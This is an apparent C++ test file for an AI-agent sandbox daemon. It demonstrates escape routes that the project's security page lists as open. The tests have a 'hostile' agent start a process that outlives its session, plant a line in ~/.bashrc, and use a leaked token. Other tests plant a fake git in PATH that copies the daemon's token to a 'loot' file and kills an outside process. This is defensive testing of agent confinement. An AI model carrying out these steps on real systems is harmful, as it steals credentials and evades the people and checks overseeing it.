// The open ways listed in SECURITY.md: each is demonstrated once, so that the page neither promises
// too much nor warns of ways that are closed by now.
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>

#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "env/posix/confine/confine.h"
#include "hostile_test.h"

namespace perdure {
namespace {

namespace fs = std::filesystem;

class OpenWay : public HostileAgent {
 protected:
  static std::string script(const std::string& words) {
    return "/usr/bin/python3 " + std::string(attacks) + "/attacks.py " + words;
  }
};

// Like `at` or a tmux server: a program of the user outside every session.
TEST_F(OpenWay, a_program_outside_starts_a_process_that_outlives_the_session) {
  const std::string path = daemon_->process.folder() + "/obey.sock";
  FILE* const outside = popen(script("obey " + path).c_str(), "r");
  ASSERT_NE(outside, nullptr);
  char line[32] = {};
  ASSERT_NE(std::fgets(line, sizeof line, outside), nullptr);
  const std::string word = "6" + std::to_string(getpid());
  const EndedWithTest sleeper{"sleep " + word};
  attack(script("send " + path + " sleep " + word));
  ASSERT_EQ(pclose(outside), 0);
  ASSERT_TRUE(until([&] { return processes_named("sleep " + word).size() == 1; }));
  ASSERT_TRUE(client().post("/api/sessions/" + attacker_ + "/stop").ok());
  ASSERT_TRUE(until([&] { return client().count(attacker_, "executor.stopped") > 0; }));
  EXPECT_EQ(processes_named("sleep " + word).size(), 1u);
}

TEST_F(OpenWay, what_it_writes_to_the_home_folder_stays) {
  const std::string user = daemon_->process.folder() + "/user";
  fs::create_directories(user);
  attack("echo planted >> ~/.bashrc");
  EXPECT_EQ(read_text(user + "/.bashrc"), "planted\n");
}

TEST_F(OpenWay, it_shares_the_network_namespace) {
  const std::string saw = attack("readlink /proc/self/ns/net");
  EXPECT_TRUE(has(saw, fs::read_symlink("/proc/self/ns/net"))) << saw;
}

TEST_F(OpenWay, TOK3_a_token_found_elsewhere_serves_for_reads_only) {
  ask();
  const std::string token = " " + daemon_->make_token(R"({"name":"found","scopes":["operate"]})");
  const std::string to = std::to_string(daemon_->port) + " ";
  const std::string other = "/api/sessions/" + session_;
  EXPECT_TRUE(has(request(to + "GET " + other + " ''" + token), "status=200"));
  const std::string renamed = R"('{"title":"by the agent"}')";
  EXPECT_TRUE(has(request(to + "PATCH " + other + " " + renamed + token), "status=404"));
  const std::string own = "/api/sessions/" + attacker_;
  EXPECT_TRUE(has(request(to + "PATCH " + own + " " + renamed + token), "status=200"));
  EXPECT_TRUE(has(request(to + grant() + token), "status=403"));
  const std::string admin = " " + daemon_->process.admin_token();
  EXPECT_TRUE(has(request(to + "POST /api/launch '{}'" + admin), "status=403"));
  expect_open();
}

// The first git in PATH is in a folder that the agent can write.
class ForeignGit : public OpenWay {
 protected:
  void SetUp() override {
    path_ = std::getenv("PATH");
    char name[] = "/tmp/perdure-git-XXXXXX";
    folder_ = mkdtemp(name);
    setenv("PATH", (folder_ + ":" + path_).c_str(), 1);
    OpenWay::SetUp();
  }
  void TearDown() override {
    OpenWay::TearDown();
    setenv("PATH", path_.c_str(), 1);
    fs::remove_all(folder_);
  }
  std::string path_;
  std::string folder_;
};

TEST_F(ForeignGit, SEC1_it_makes_the_worktrees_and_is_confined_as_an_agent_is) {
  const std::string home = daemon_->process.home();
  const std::string loot = folder_ + "/loot";
  attack("printf '#!/bin/sh\\ncat " + home + "/token >>" + loot + " 2>&1\\nPATH=" + path_ +
         " exec git \"$@\"\\n' >" + folder_ + "/git; chmod +x " + folder_ + "/git");
  const std::string repo = daemon_->process.folder() + "/repo";
  const std::string commit =
      "git init -q -b main " + repo + " && git -C " + repo +
      " -c user.name=a -c user.email=a@b commit -q --allow-empty -m one; rm -f " + loot;
  ASSERT_EQ(run_program({"/bin/sh", "-c", commit}, {"PATH=" + path_}).exit_code, 0);
  const ApiReply made = client().post(
      "/api/sessions", R"({"agent":"hostile","cwd":")" + repo + R"(","worktree":{"branch":""}})");
  EXPECT_EQ(made.status, 201) << made.body;
  EXPECT_NE(read_text(loot), "") << "another git was run";
  EXPECT_EQ(has(read_text(loot), daemon_->process.admin_token()),
            try_namespaces().level == ConfinementLevel::none);
}

// What such a git leaves behind has shed its parent, its session and its marks. Before that it
// tries to end a process outside.
TEST_F(ForeignGit, SEC16_what_it_starts_signals_nobody_and_ends_with_it) {
  const std::string word = "7" + std::to_string(getpid());
  const EndedWithTest sleeper{"sleep " + word};
  const std::string victim = "8" + std::to_string(getpid());
  const EndedWithTest beside{"sleep " + victim};
  attack(
      "printf '#!/bin/sh\n"
      "for each in /proc/[0-9]*; do grep -qz \"^" +
      victim +
      "\\$\" $each/cmdline && "
      "kill -9 ${each#/proc/}; done 2>/dev/null\n"
      "(setsid env -i /bin/sleep " +
      word +
      " >/dev/null 2>&1 &)\n"
      "PATH=" +
      path_ + " exec git \"$@\"\n' >" + folder_ + "/git; chmod +x " + folder_ + "/git");
  const pid_t sleeping = fork();
  if (sleeping == 0) {
    execl("/bin/sleep", "sleep", victim.c_str(), nullptr);
    _exit(1);
  }
  const std::string repo = daemon_->process.folder() + "/repo";
  const std::string commit = "git init -q -b main " + repo + " && git -C " + repo +
                             " -c user.name=a -c user.email=a@b commit -q --allow-empty -m one";
  ASSERT_EQ(run_program({"/bin/sh", "-c", commit}, {"PATH=" + path_}).exit_code, 0);
  const ApiReply made = client().post(
      "/api/sessions", R"({"agent":"hostile","cwd":")" + repo + R"(","worktree":{"branch":""}})");
  EXPECT_EQ(made.status, 201) << made.body;
  if (try_namespaces().has_process_namespace) {
    EXPECT_EQ(waitpid(sleeping, nullptr, WNOHANG), 0) << "it was killed";
    EXPECT_TRUE(until([&] { return processes_named("sleep " + word).empty(); }));
    kill(sleeping, SIGKILL);
  }
  // Without a process namespace it was killed, as SECURITY.md says.
  EXPECT_EQ(waitpid(sleeping, nullptr, 0), sleeping);
}

}  // namespace
}  // namespace perdure
